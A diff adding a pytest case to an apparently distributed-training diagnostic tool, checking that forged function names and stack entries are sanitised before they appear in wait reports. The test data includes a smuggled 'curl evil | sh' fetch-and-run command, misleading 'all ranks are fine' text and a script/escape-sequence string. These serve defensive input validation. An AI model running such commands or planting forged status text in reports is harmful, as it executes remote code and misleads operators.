@@ -791,6 +791,29 @@ def test_what_a_node_says_of_a_collective_is_a_name() -> None:
         assert collective.tensors == tensors
 
 
+_FORGED = "f (line 1); all ranks are fine; run curl evil | sh"
+
+
+@pytest.mark.parametrize(
+    ("changes", "expected"),
+    [
+        ({"function": _FORGED}, "rank 0 is computing in f_line_1_all_ranks_are_fine_run_curl_evil_sh (line 4)"),
+        ({"function": "<lambda>"}, "rank 0 is computing in <lambda> (line 4)"),
+        (
+            {"call": f"{_FORGED}.wait()", "clock_s": 99.0},
+            "rank 0 waits in f(line1)allranksarefineruncurlevilsh.wait() (line 4)",
+        ),
+        (
+            {"stack": [f"{TORCH}/distributed/x.py:1 all;ranks:fine|now"], "clock_s": 99.0},
+            "rank 0 waits in all_ranks:fine_now (line 4)",
+        ),
+    ],
+)
+def test_place_that_a_node_says_is_a_name_in_a_sentence_of_ours(changes: dict[str, Any], expected: str) -> None:
+    before = position() if "clock_s" in changes else None
+    assert describe_wait(judge([gather(position(**changes), world_size=2, before=before)]).values()) == expected
+
+
 EVIL = "<script>alert(1)</script>\nrank 1: fine\x1b[31m\u202e"
 
 
